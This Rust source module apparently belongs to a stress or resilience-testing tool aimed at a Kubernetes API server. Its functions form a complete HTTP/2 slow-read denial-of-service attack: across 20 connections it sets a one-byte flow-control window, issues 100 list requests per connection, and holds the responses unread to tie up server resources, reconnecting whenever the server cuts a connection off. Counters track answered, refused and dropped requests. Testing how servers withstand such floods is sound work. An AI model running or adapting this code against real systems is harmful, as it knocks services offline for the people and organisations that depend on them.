//! Lists over HTTP/2 windows of one byte, which are never read.

use anyhow::Result;
use bytes::Bytes;
use h2::client::SendRequest;
use http::Request;
use rustls::pki_types::ServerName;
use tokio::net::TcpStream;
use tokio::time::Duration;
use tokio_rustls::TlsConnector;

use super::{MAPS, Run};

const CONNECTIONS: usize = 20;
const LISTS_EACH: usize = 100;
const PAUSE: Duration = Duration::from_millis(10);

pub async fn flood(run: &Run) -> Result<()> {
    run.workers(CONNECTIONS, |_, run| async move {
        while !run.is_over() {
            // A connection that the server closed is followed by another.
            if stall(&run).await.is_err() {
                run.counts.cut_off();
            }
            tokio::time::sleep(PAUSE).await;
        }
        Ok(())
    })
    .await
}

/// Requests lists on one connection, and returns when the server has closed it.
async fn stall(run: &Run) -> Result<()> {
    let config = &run.kubeconfig;
    let stream = TcpStream::connect(config.address).await?;
    let name = ServerName::from(config.address.ip());
    let stream = TlsConnector::from(config.tls.clone())
        .connect(name, stream)
        .await?;
    let (sender, connection) = h2::client::Builder::new()
        .initial_window_size(1)
        .handshake(stream)
        .await?;
    let requests = request_lists(run, sender);
    let (requested, closed) = tokio::join!(requests, connection);
    closed?;
    requested
}

async fn request_lists(run: &Run, mut sender: SendRequest<Bytes>) -> Result<()> {
    let mut open = Vec::new();
    for _ in 0..LISTS_EACH {
        sender = sender.ready().await?;
        let uri = format!("https://{}{MAPS}", run.kubeconfig.address);
        let request = Request::get(uri).body(())?;
        let (response, _) = sender.send_request(request, true)?;
        open.push(response);
    }
    let mut held = Vec::new();
    for response in open {
        match response.await {
            Ok(response) if response.status().is_success() => {
                run.counts.answered();
                held.push(response);
            }
            Ok(_) => run.counts.refused(),
            Err(_) => run.counts.cut_off(),
        }
    }
    tokio::time::sleep_until(run.until).await;
    Ok(())
}
